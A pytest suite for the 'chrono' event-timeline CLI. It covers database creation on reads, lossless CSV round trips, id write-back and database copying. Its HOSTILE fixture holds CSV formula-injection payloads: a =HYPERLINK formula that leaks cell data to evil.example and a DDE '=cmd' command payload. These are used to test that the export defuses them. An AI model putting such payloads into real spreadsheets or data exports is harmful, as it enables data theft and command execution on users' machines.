"""What a new user hit in everyday use (issue 12): data that slips away, errors that are not one line.

Every test goes through the CLI (`chrono` fixture, SQLite and PostgreSQL) or the files chrono writes,
read back with real parsers.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from tests.conftest import ROOT, Chrono
from tests.test_cli import events_json

# --- 1. reads never create a database ----------------------------------------------------------


@pytest.mark.parametrize(
    "args",
    [
        ["list"],
        ["list", "--format", "json"],
        ["show", "some-id"],
        ["export", "ics", "-o", "-"],
        ["actors"],
        ["tags"],
        ["feed", "list"],
        ["serve", "--port", "0"],
    ],
)
def test_reads_never_create_a_database(chrono: Chrono, args: list[str]) -> None:
    _, err = chrono(*args, code=3)
    assert err.startswith("chrono: error: no database at ") and err.count("\n") == 1
    assert "chrono add` or `chrono import` creates one" in err
    assert chrono.stores_nothing() or "://" in chrono.db
    if "://" not in chrono.db:
        assert not Path(chrono.db).exists()


def test_a_read_in_a_missing_folder_creates_nothing(tmp_path: Path) -> None:
    missing = tmp_path / "no" / "such" / "dir" / "x.db"
    _, err = Chrono(str(missing))("list", code=3)
    assert err == f"chrono: error: no database at {missing}: `chrono add` or `chrono import` creates one\n"
    assert not (tmp_path / "no").exists()


def test_db_copy_from_a_mistyped_source_is_an_error(chrono: Chrono, tmp_path: Path) -> None:
    _, err = chrono("db", "copy", str(tmp_path / "typo.db"), chrono.db, code=3, db=False)
    assert err.startswith(f"chrono: error: no database at {tmp_path / 'typo.db'}")
    assert not (tmp_path / "typo.db").exists()
    assert chrono.stores_nothing()


def test_a_failed_first_import_leaves_no_file(tmp_path: Path) -> None:
    bad = tmp_path / "bad.yaml"
    bad.write_text("- title: x\n  start: 2024-13\n", encoding="utf-8")
    target = tmp_path / "new" / "new.db"
    chrono = Chrono(str(target))
    _, err = chrono("import", str(bad), code=4)
    assert "bad.yaml:1: bad date" in err
    assert not target.exists() and not (tmp_path / "new").exists()
    # ... and a failed write into an existing database keeps it, with what it held.
    chrono("add", "Kept", "--date", "2024", "--id", "kept")
    chrono("import", str(bad), code=4)
    assert [e["id"] for e in events_json(chrono)] == ["kept"]


def test_writes_create_the_database(chrono: Chrono) -> None:
    chrono("add", "First", "--date", "2024", "--id", "first")
    assert [e["id"] for e in events_json(chrono)] == ["first"]


# --- 2. CSV: a lossless, safe round trip (and issue 15, item 6) ------------------------------------


def _csv(chrono: Chrono, tmp_path: Path, name: str = "e.csv") -> Path:
    from chrono.cli import app

    # The bytes as written: click's `Result.stdout` turns CRLF into LF.
    result = chrono.runner.invoke(app, ["list", "--format", "csv", "--db", chrono.db])
    assert result.exit_code == 0, result.stderr
    path = tmp_path / name
    path.write_bytes(result.stdout_bytes)
    return path


def test_csv_round_trip_is_lossless_and_a_reimport_is_a_no_op(seeded: Chrono, tmp_path: Path) -> None:
    before = events_json(seeded)
    assert any(s["url"] is None for e in before for s in e["sources"])  # the seed article, URL-less
    path = _csv(seeded, tmp_path)
    _, err = seeded("import", str(path))
    assert err == f"imported 1 file(s): 0 added, 0 updated, {len(before)} unchanged\n"
    assert events_json(seeded) == before
    fresh = Chrono(str(tmp_path / "fresh.db"))
    fresh("import", str(path))
    assert events_json(fresh) == before  # sources with titles, publishers, quotes; stamps kept


HOSTILE = {
    "id": "hostile",
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "start": "2024-05",
    # at the length limit; with the long quotes below the sources cell passes csv's 131,072 default
    "description": 'first line\rinjected,2024,,,,,,,confirmed\r\n\tand "quoted" text' + "x" * 99_000,
    "location": "+1 Main St; Springfield=Yes",
    "actors": ["Smith; Jones", "A=B", "@handle", "-dash"],
    "roles": {"A=B": "host=guest; visitor", "@handle": "=1+1"},
    "tags": ["x;y", "a=b", "'quoted"],
    "sources": [
        {
            "url": "https://example.org/a;b=c?d=e;f",
            "title": "=cmd|' /C calc'!A0",
            "quote": "-2+3" + "q" * 90_000,
        },
        {
            "title": "Seed article; no URL",
            "publisher": "@News",
            "published": "2025-01",
            "quote": "z" * 90_000,
        },
        "https://example.org/plain",
    ],
}


def test_hostile_csv_is_neutralised_and_round_trips_exactly(chrono: Chrono, tmp_path: Path) -> None:
    source = tmp_path / "hostile.jsonl"
    source.write_text(json.dumps(HOSTILE) + "\n", encoding="utf-8")
    chrono("import", str(source))
    before = events_json(chrono)
    path = _csv(chrono, tmp_path)
    previous = csv.field_size_limit(1_000_000)  # the long description is over the csv default
    try:
        with path.open(encoding="utf-8", newline="") as handle:
            rows = list(csv.reader(handle))
    finally:
        csv.field_size_limit(previous)
    assert len(rows) == 2  # the lone CR did not split the row
    for cell in rows[1]:
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell  # no cell opens as a formula
    header = rows[0]
    assert rows[1][header.index("title")].startswith("'=HYPERLINK(")
    assert json.loads(rows[1][header.index("actors")]) == HOSTILE["actors"]
    _, err = chrono("import", str(path))
    assert err == "imported 1 file(s): 0 added, 0 updated, 1 unchanged\n"
    fresh = Chrono(str(tmp_path / "fresh.db"))
    fresh("import", str(path))
    assert events_json(fresh) == before


@pytest.mark.parametrize(
    ("cell", "kept"),
    [("'Tis the season", "'Tis the season"), ("''=x", "'=x"), ("it's", "it's"), ("'-1", "-1")],
)
def test_csv_quote_prefix_is_removed_only_where_chrono_adds_one(
    chrono_sqlite: Chrono, tmp_path: Path, cell: str, kept: str
) -> None:
    path = tmp_path / "hand.csv"
    buffer = io.StringIO()
    csv.writer(buffer).writerows([["title", "start", "location"], ["Event", "2024", cell]])
    path.write_text(buffer.getvalue(), encoding="utf-8")
    chrono_sqlite("import", str(path))
    [event] = events_json(chrono_sqlite)
    assert event["location"] == kept


def test_hand_written_csv_lists_still_split_on_semicolons(chrono_sqlite: Chrono, tmp_path: Path) -> None:
    path = tmp_path / "hand.csv"
    path.write_text(
        "title,start,actors,roles,tags,sources\n"
        "Visit,2022-07-19,Vladimir Putin; Ebrahim Raisi,Ebrahim Raisi=host,diplomacy; iran,https://e.org/a\n",
        encoding="utf-8",
    )
    chrono_sqlite("import", str(path))
    [event] = events_json(chrono_sqlite)
    assert event["actors"] == ["Vladimir Putin", "Ebrahim Raisi"]
    assert event["roles"] == {"Ebrahim Raisi": "host"}
    assert event["tags"] == ["diplomacy", "iran"]
    assert [s["url"] for s in event["sources"]] == ["https://e.org/a"]
    bad = tmp_path / "bad.csv"
    bad.write_text('title,start,tags\nX,2024,"[not json"\n', encoding="utf-8")
    _, err = chrono_sqlite("import", str(bad), code=4)
    assert err.startswith(f"chrono: error: {bad}:2: tags: not valid JSON") and err.count("\n") == 1


# --- 3. --write-ids for every format that can hold ids --------------------------------------------

WITHOUT_IDS = {
    "e.yaml": "# my events\n- title: One  # first\n  start: 2024\n- {title: Two, start: 2025}\n",
    "e.json": '{\n  "events": [\n    {\n      "title": "One",\n      "start": "2024"\n    },\n'
    '    {"title": "Two", "start": "2025", "id": null}\n  ]\n}\n',
    "e.jsonl": '{"title": "One", "start": "2024"}\n\n{ "title": "Two", "start": "2025" }\n',
    "e.csv": 'title,start,tags\nOne,2024,"[""a;b""]"\n"Two, again",2025,\n',
    "f.csv": "id,title,start\n,One,2024\nkeep,Two,2025\n",
}


def _read_back(path: Path) -> list[dict[str, object]]:
    """The file's events as a real parser of its format reads them."""
    import yaml

    text = path.read_text(encoding="utf-8")
    if path.suffix == ".yaml":
        return list(yaml.safe_load(text))
    if path.suffix == ".json":
        return list(json.loads(text)["events"])
    if path.suffix == ".jsonl":
        return [json.loads(line) for line in text.splitlines() if line.strip()]
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("name", sorted(WITHOUT_IDS))
def test_write_ids_writes_them_back_for_every_format(chrono: Chrono, tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    path.write_text(WITHOUT_IDS[name], encoding="utf-8")
    before = _read_back(path)
    _, err = chrono("import", "--write-ids", str(path))
    assert "note:" not in err
    stored = {e["title"]: e["id"] for e in events_json(chrono)}
    after = _read_back(path)
    assert [e["id"] for e in after] == [stored[str(e["title"])] for e in after]
    for old, new in zip(before, after, strict=True):  # nothing else changed
        assert {k: v for k, v in new.items() if k != "id"} == {k: v for k, v in old.items() if k != "id"}
    if name == "f.csv":
        assert after[1]["id"] == "keep"
    if name == "e.yaml":
        assert path.read_text().startswith("# my events\n- id: ") and "# first" in path.read_text()
    _, err = chrono("import", str(path))
    assert err == "imported 1 file(s): 0 added, 0 updated, 2 unchanged\n"


# --- 4. db copy copies saved feeds ------------------------------------------------------------------


def test_db_copy_copies_saved_feeds(chrono: Chrono, tmp_path: Path) -> None:
    from fastapi.testclient import TestClient

    from chrono.server import create_app

    seeded_sqlite = Chrono(str(tmp_path / "source.db"))
    seeded_sqlite("import", str(ROOT / "events"))
    seeded_sqlite("feed", "add", "putin", "--actor", "Putin", "--title", "Putin and Iran")
    seeded_sqlite("feed", "add", "drones", "--tag", "drones", "--from", "2024")
    _, err = chrono("db", "copy", seeded_sqlite.db, chrono.db, db=False)
    assert err.endswith(": 25 added, 0 updated, 0 unchanged; 2 saved feed(s)\n")
    source = json.loads(seeded_sqlite("feed", "list", "--format", "json")[0])
    assert json.loads(chrono("feed", "list", "--format", "json")[0]) == source
    with TestClient(create_app(chrono.db)) as client:
        copied = client.get("/feeds/putin.ics")
    with TestClient(create_app(seeded_sqlite.db)) as client:
        original = client.get("/feeds/putin.ics")
    assert copied.status_code == 200 and copied.content == original.content
    _, err = chrono("db", "copy", seeded_sqlite.db, chrono.db, db=False)  # again: nothing to do
    assert err.endswith(": 0 added, 0 updated, 25 unchanged; 0 saved feed(s)\n")
